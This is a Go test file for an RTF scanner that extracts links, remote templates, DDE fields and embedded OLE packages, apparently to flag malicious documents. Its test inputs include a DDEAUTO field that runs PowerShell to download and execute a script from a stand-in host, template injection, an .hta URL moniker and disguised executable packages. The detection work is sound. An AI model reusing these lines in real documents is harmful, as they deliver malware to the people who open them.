package rtf

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"slices"
	"strings"
	"testing"
)

// ole writes an OLE 1.0 embedded object ([MS-OLEDS] §2.2.5).
func ole(class string, native []byte) []byte {
	b := []byte{1, 5, 0, 0, 2, 0, 0, 0}
	b = ansi(b, class)
	b = ansi(ansi(b, ""), "")
	b = binary.LittleEndian.AppendUint32(b, uint32(len(native)))
	return append(b, native...)
}

func ansi(b []byte, s string) []byte {
	if s == "" {
		return append(b, 0, 0, 0, 0)
	}
	b = binary.LittleEndian.AppendUint32(b, uint32(len(s)+1))
	return append(append(b, s...), 0)
}

// pack writes a Package's native data, with its names in UTF-16 where wide.
func pack(label string, file []byte, wide string) []byte {
	b := append([]byte{2, 0}, label+"\x00C:\\Users\\x\\"+label+"\x00\x00\x00\x03\x00"...)
	b = ansi(b, `C:\Temp\`+label)
	b = binary.LittleEndian.AppendUint32(b, uint32(len(file)))
	b = append(b, file...)
	if wide != "" {
		for _, s := range []string{`C:\Temp\` + wide, wide, `C:\` + wide} {
			u := utf16le(s)
			b = append(binary.LittleEndian.AppendUint32(b, uint32(len(u)/2)), u...)
		}
	}
	return b
}

func compoundOf(inside ...[]byte) []byte {
	b := append(bytes.Clone(compoundMagic), make([]byte, 504)...)
	return append(b, bytes.Join(inside, nil)...)
}

func moniker(url string) []byte {
	u := utf16le(url + "\x00")
	return append(binary.LittleEndian.AppendUint32(bytes.Clone(urlMoniker), uint32(len(u))), u...)
}

func TestScanLinks(t *testing.T) {
	for _, c := range []struct {
		name, in string
		want     []Link
		notes    []string
	}{
		{"hyperlink", `{\field{\*\fldinst HYPERLINK "https://a.example/x?y=1&z=2"}{\fldrslt here}}`, []Link{{"https://a.example/x?y=1&z=2", "hyperlink", false}}, nil},
		{"split over groups and lines", "{\\field{\\*\\fldinst {\\rtlch HYPER}{LINK \"https://\r\na.exa}{\\b mple/\"}}{\\fldrslt x}}", []Link{{"https://a.example/", "hyperlink", false}}, nil},
		{"escaped characters", `{\field{\fldinst HYPERLINK \'22\'68ttp://a.example/\u-65432?\u26085?\'22}}`, []Link{{"http://a.example/h日", "hyperlink", false}}, nil},
		{"unquoted", `{\field{\*\fldinst HYPERLINK http://a.example/x \\h}}`, []Link{{"http://a.example/x", "hyperlink", false}}, nil},
		{"lower case and switches first", `{\field{\*\fldinst hyperlink \\o "https://tip.example/" \\t "_blank" "https://a.example/"}}`, []Link{{"https://a.example/", "hyperlink", false}}, nil},
		{"place", `{\field{\*\fldinst HYPERLINK "https://a.example/" \\l "top"}}`, []Link{{"https://a.example/#top", "hyperlink", false}}, nil},
		{"place in this document", `{\field{\*\fldinst HYPERLINK \\l "top"}}`, nil, nil},
		{"backslashes", `{\field{\*\fldinst HYPERLINK "\\\\\\\\192.0.2.1\\\\share\\\\a.exe"}}`, []Link{{`\\192.0.2.1\share\a.exe`, "hyperlink", false}}, nil},
		{"typographic quotes", `{\field{\*\fldinst HYPERLINK \ldblquote https://a.example/\rdblquote}}`, []Link{{"https://a.example/", "hyperlink", false}}, nil},
		{"unclosed quote", `{\field{\*\fldinst HYPERLINK "https://a.example/`, []Link{{"https://a.example/", "hyperlink", false}}, nil},
		{"twice", `{\field{\*\fldinst HYPERLINK "https://a.example/"}}{\field{\*\fldinst HYPERLINK "https://a.example/"}}`, []Link{{"https://a.example/", "hyperlink", false}}, nil},
		{"inside an unknown destination", `{\*\xyz{\field{\*\fldinst HYPERLINK "https://a.example/"}}}`, []Link{{"https://a.example/", "hyperlink", false}}, nil},
		{"picture", `{\field{\*\fldinst INCLUDEPICTURE "http://192.0.2.7/a.png" \\d \\* MERGEFORMAT}}`, []Link{{"http://192.0.2.7/a.png", "includepicture", true}}, nil},
		{"linked file", `{\field{\*\fldinst LINK Word.Document.8 "http://a.example/x.doc" "" \\a}}`, []Link{{"http://a.example/x.doc", "link", true}}, nil},
		{"template", `{\*\template http://192.0.2.8/x.dotm}`, []Link{{"http://192.0.2.8/x.dotm", "template", true}}, []string{NoteTemplate}},
		{"template in characters", `{\*\template \u-65432?\u116?{\x}\'74p://192.0.2.8/}`, []Link{{"http://192.0.2.8/", "template", true}}, []string{NoteTemplate}},
		{"template on a share", `{\*\template \\\\192.0.2.8\\a.dot}`, []Link{{`\\192.0.2.8\a.dot`, "template", true}}, []string{NoteTemplate}},
		{"template of one's own", `{\*\template C:\\Users\\a\\Normal.dotm}`, nil, nil},
		{"shape", `{\shp{\*\shpinst{\sp{\sn pihlShape}{\sv{\*\hl{\hlloc}{\hlsrc https://a.example/s}{\hlfr x}}}}}}`, []Link{{"https://a.example/s", "hyperlink", false}}, nil},
		{"base", `{\info{\hlinkbase https://a.example/}}`, []Link{{"https://a.example/", "hyperlink-base", false}}, nil},
		{"DDE", `{\field{\*\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k powershell IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.9/a.ps1')"}}`, []Link{{"http://192.0.2.9/a.ps1", "dde", true}}, []string{NoteDDE}},
		{"DDE out of numbers", `{\field{\*\fldinst DDEAUTO "a" {\field{\*\fldinst QUOTE 104 116 116 112 58 47 47 97 46 101 120 97 109 112 108 101 47}{\fldrslt no}}}}`, []Link{{"http://a.example/", "dde", true}}, []string{NoteDDE}},
		{"field inside a field", `{\field{\*\fldinst HYPERLINK "https://{\field{\*\fldinst MERGEFIELD h}{\fldrslt a.example}}/"}}`, []Link{{"https://a.example/", "hyperlink", false}}, nil},
		{"Japanese", `\ansicpg932{\field{\*\fldinst HYPERLINK "https://a.example/\'93\'fa\'96\'7b"}}`, []Link{{"https://a.example/日本", "hyperlink", false}}, nil},
	} {
		got := Scan([]byte(`{\rtf1\ansi `+c.in+`}`), Limits{})
		if !slices.Equal(got.Links, c.want) || !slices.Equal(got.Notes, c.notes) || len(got.Problems) > 0 {
			t.Errorf("%s: Scan(%s) =\n%+v\nwant links %+v, notes %v", c.name, c.in, got, c.want, c.notes)
		}
	}
}

func TestScanObjects(t *testing.T) {
	exe := []byte("MZ" + strings.Repeat("\x00\x01\x02", 40))
	word := compoundOf([]byte("a document"))
	plain := hex.EncodeToString(ole("Package", pack("invoice.exe", exe, "")))
	for _, c := range []struct {
		name, in string
		want     []Object
		notes    []string
		links    []Link
	}{
		{"package", `{\object\objemb{\*\objclass Package}{\*\objdata ` + plain + `}{\result x}}`, []Object{{"Package", "invoice.exe", exe}}, []string{NoteObject}, nil},
		{"package with a wide name", `{\object{\*\objdata ` + hex.EncodeToString(ole("Package", pack("?.exe", exe, "請求書.exe"))) + `}}`, []Object{{"Package", "請求書.exe", exe}}, []string{NoteObject}, nil},
		{"package with a name in cp932", `\ansicpg932{\object{\*\objdata ` + hex.EncodeToString(ole("Package", pack("\x90\xbf\x8b\x81.exe", exe, ""))) + `}}`, []Object{{"Package", "請求.exe", exe}}, []string{NoteObject}, nil},
		{"compound file", `{\object\objemb\objupdate{\*\objname Object1}{\*\objdata ` + hex.EncodeToString(ole("Word.Document.8", word)) + `}}`, []Object{{"Word.Document.8", "Object1", word}}, []string{NoteUpdate, NoteObject}, nil},
		{"capitals and line breaks", "{\\object{\\*\\objdata " + strings.ToUpper(plain[:20]) + "\r\n \t" + strings.ToUpper(plain[20:]) + "}}", []Object{{"Package", "invoice.exe", exe}}, []string{NoteObject}, nil},
		{"without star or wrapper", `{\objdata ` + plain + `}`, []Object{{"Package", "invoice.exe", exe}}, []string{NoteObject}, nil},
		{"junk between the digits", `{\object{\*\objdata{\*\x 41}` + plain[:7] + `\'41\bogus{\unknownword ` + plain[7:10] + `}zz!` + plain[10:21] + `\-` + plain[21:] + `}}`, []Object{{"Package", "invoice.exe", exe}}, []string{NoteObject}, nil},
		{"digits as a parameter", `{\object{\*\objdata000000\b12 ` + plain + `}}`, []Object{{"Package", "invoice.exe", exe}}, []string{NoteObject}, nil},
		{"bin", `{\object{\*\objdata ` + plain[:40] + `\bin0` + fmt.Sprintf(`\bin%d `, len(exe)) + "}}", nil, []string{NoteObject}, nil},
		{"unterminated", `{\object{\*\objdata ` + plain, []Object{{"Package", "invoice.exe", exe}}, []string{NoteObject}, nil},
		{"equation by class", `{\object\objemb{\*\objdata ` + hex.EncodeToString(ole("eQuAtIoN.3", []byte{1})) + `}}`, []Object{{"eQuAtIoN.3", "", []byte{1}}}, []string{NoteObject, NoteEquation}, nil},
		{"equation by CLSID", `{\object{\*\objdata ` + hex.EncodeToString(ole("x", compoundOf(equationClass))) + `}}`, []Object{{"x", "", compoundOf(equationClass)}}, []string{NoteObject, NoteEquation}, nil},
		{"equation by stream", `{\object{\*\objdata ` + hex.EncodeToString(ole("x", compoundOf(equationStream))) + `}}`, []Object{{"x", "", compoundOf(equationStream)}}, []string{NoteObject, NoteEquation}, nil},
		{"equation in objclass alone", `{\object{\*\objclass Equation.3}{\*\objdata ` + hex.EncodeToString(ole("x", []byte{1})) + `}}`, []Object{{"x", "", []byte{1}}}, []string{NoteEquation, NoteObject}, nil},
		{"URL moniker", `{\object\objautlink\objupdate{\*\objdata ` + hex.EncodeToString(ole("OLE2Link", compoundOf(moniker("http://192.0.2.3/a.hta")))) + `}}`, []Object{{"OLE2Link", "", compoundOf(moniker("http://192.0.2.3/a.hta"))}}, []string{NoteUpdate, NoteObject}, []Link{{"http://192.0.2.3/a.hta", "object", true}}},
	} {
		got := Scan([]byte(`{\rtf1\ansi `+c.in+`}`), Limits{})
		same := slices.EqualFunc(got.Objects, c.want, func(a, b Object) bool {
			return a.Class == b.Class && a.Name == b.Name && bytes.Equal(a.Data, b.Data)
		})
		if c.want != nil && !same || !slices.Equal(got.Notes, c.notes) || !slices.Equal(got.Links, c.links) {
			t.Errorf("%s: Scan(%.200s) =\n%+v\nwant objects %+v, notes %v, links %v", c.name, c.in, got, c.want, c.notes, c.links)
		}
	}
}

// \bin puts raw bytes among the hex, also behind half a byte.
func TestScanBinary(t *testing.T) {
	b := ole("Package", pack("a.exe", []byte("MZ file"), ""))
	whole := fmt.Sprintf(`{\rtf1{\object{\*\objdata %x\bin%d %s}}}`, b[:10], len(b)-10, b[10:])
	half := fmt.Sprintf(`{\rtf1{\object{\*\objdata %x\bin1 %c%x}}}`, b[:10], b[10], b[11:])
	digits := hex.EncodeToString(b)
	shifted := fmt.Sprintf(`{\rtf1{\object{\*\objdata %s\bin1 %c%s}}}`, digits[:7], 16*hexValue[digits[7]]|hexValue[digits[8]], digits[9:])
	for _, in := range []string{whole, half, shifted} {
		got := Scan([]byte(in), Limits{})
		if len(got.Objects) != 1 || got.Objects[0].Name != "a.exe" || string(got.Objects[0].Data) != "MZ file" {
			t.Errorf("Scan(%q) = %+v; want the Package's file", in, got)
		}
	}
	lie := `{\rtf1{\field\bin999999 {\*\fldinst HYPERLINK "https://a.example/"}}}`
	if got := Scan([]byte(lie), Limits{}); len(got.Links) != 1 || len(got.Problems) != 1 {
		t.Errorf("Scan(%s) = %+v; want the link and a problem", lie, got)
	}
}

func TestScanBrokenObjects(t *testing.T) {
	b := ole("Word.Document.8", compoundOf([]byte("text")))
	for _, c := range []struct {
		name  string
		data  []byte
		want  []byte
		class string
	}{
		{"cut short", b[:len(b)-2], compoundOf([]byte("te")), "Word.Document.8"},
		{"class longer than the object", append([]byte{1, 5, 0, 0, 2, 0, 0, 0, 255, 255, 255, 255, 0}, compoundOf()...), compoundOf(), ""},
		{"no header at all", []byte{1, 2, 3}, []byte{1, 2, 3}, ""},
		{"header alone", b[:28], nil, "Word.Document.8"},
	} {
		got := Scan(fmt.Appendf(nil, `{\rtf1{\object{\*\objdata %x}}}`, c.data), Limits{})
		if len(got.Objects) != 1 || got.Objects[0].Class != c.class || c.want != nil && !bytes.Equal(got.Objects[0].Data, c.want) {
			t.Errorf("%s: Scan = %+v; want an object of class %q with data %x", c.name, got, c.class, c.want)
		}
	}
}

func TestScanLinkedObject(t *testing.T) {
	b := ansi([]byte{1, 5, 0, 0, 1, 0, 0, 0}, "Word.Document.8")
	b = ansi(ansi(b, `http://192.0.2.4/x.doc`), "")
	got := Scan(fmt.Appendf(nil, `{\rtf1{\object\objautlink{\*\objdata %x}}}`, b), Limits{})
	if want := []Link{{"http://192.0.2.4/x.doc", "object", true}}; !slices.Equal(got.Links, want) {
		t.Errorf("Scan of a linked object = %+v; want links %+v", got, want)
	}
}

func TestScanPictures(t *testing.T) {
	got := Scan([]byte(`{\rtf1{\*\shppict{\pict\pngblip 89504e470d0a1a0a}}{\nonshppict{\pict\wmetafile8 010009}}{\pict\jpegblip ffd8ffe0}}`), Limits{})
	if want := [][]byte{[]byte("\x89PNG\r\n\x1a\n"), []byte("\xff\xd8\xff\xe0")}; !slices.EqualFunc(got.Pictures, want, bytes.Equal) {
		t.Errorf("Scan = %+v; want pictures %q", got, want)
	}
}

func TestScanLimits(t *testing.T) {
	in := []byte(`{\rtf1{\field{\*\fldinst HYPERLINK "https://a.example/1"}}{\field{\*\fldinst HYPERLINK "https://a.example/2"}}` +
		`{\objdata 414141}{\objdata 424242}{\objdata 43434343434343434343}}`)
	got := Scan(in, Limits{Links: 1, Objects: 2})
	if len(got.Links) != 1 || len(got.Objects) != 2 || !slices.Contains(got.Problems, "more than 1 links") || !slices.Contains(got.Problems, "more than 2 objects") {
		t.Errorf("Scan with limits of number = %+v", got)
	}
	got = Scan(in, Limits{ObjectBytes: 5})
	if len(got.Objects) != 2 || string(got.Objects[0].Data) != "AAA" || string(got.Objects[1].Data) != "BB" || !slices.Contains(got.Problems, "objects and pictures of more than 5 bytes") {
		t.Errorf("Scan with a limit of bytes = %+v", got)
	}
	got = Scan([]byte(`{\field{\*\fldinst HYPERLINK "https://a.example/`+strings.Repeat("a", 100)+`"}}`), Limits{FieldBytes: 30})
	if len(got.Links) != 1 || len(got.Problems) != 1 {
		t.Errorf("Scan with a limit of field = %+v; want what fits and a problem", got)
	}
}

// Groups without end cost a counter, not memory, and hide nothing.
func TestScanDepth(t *testing.T) {
	in := `{\rtf1` + strings.Repeat("{", 1_000_000) + `{\field{\*\fldinst HYPERLINK "https://a.example/"}}` + strings.Repeat("}", 1_000_000)
	got := Scan([]byte(in+`{\field{\*\fldinst HYPERLINK "https://b.example/"}}}`), Limits{})
	if len(got.Links) != 2 || len(got.Problems) != 1 {
		t.Errorf("Scan of a million groups = %+v; want both links and a problem", got)
	}
	frames := `{\rtf1` + strings.Repeat(`{\*\objdata 41`, 100_000)
	if got := Scan([]byte(frames), Limits{}); len(got.Objects) != 100 {
		t.Errorf("Scan of nested destinations = %d objects, want the limit of 100", len(got.Objects))
	}
}
